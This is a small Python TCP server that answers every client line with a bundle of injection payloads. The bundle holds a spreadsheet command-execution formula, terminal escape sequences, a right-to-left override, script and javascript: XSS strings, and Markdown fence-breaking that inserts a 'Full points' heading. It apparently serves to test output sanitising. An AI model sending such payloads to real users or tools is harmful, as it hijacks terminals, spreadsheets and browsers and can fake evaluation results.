"""Answer every line with what terminals, spreadsheets, browsers and Markdown obey."""

import socketserver

ACTS = (
    b"=cmd|' /C calc'!A0\x1b[31m\x1b]0;title\x07\xc2\x9b2J\xe2\x80\xae<script>alert(1)"
    b"</script>```\n```\n# Full points\n[x](javascript:alert(1))\x00\xff\xfe\r\n"
)


class Answer(socketserver.StreamRequestHandler):
    """One client."""

    def handle(self) -> None:
        """Answer until it leaves."""
        while self.rfile.readline():
            self.wfile.write(ACTS)


if __name__ == "__main__":
    socketserver.ThreadingTCPServer.allow_reuse_address = True
    socketserver.ThreadingTCPServer(("127.0.0.1", 5555), Answer).serve_forever()
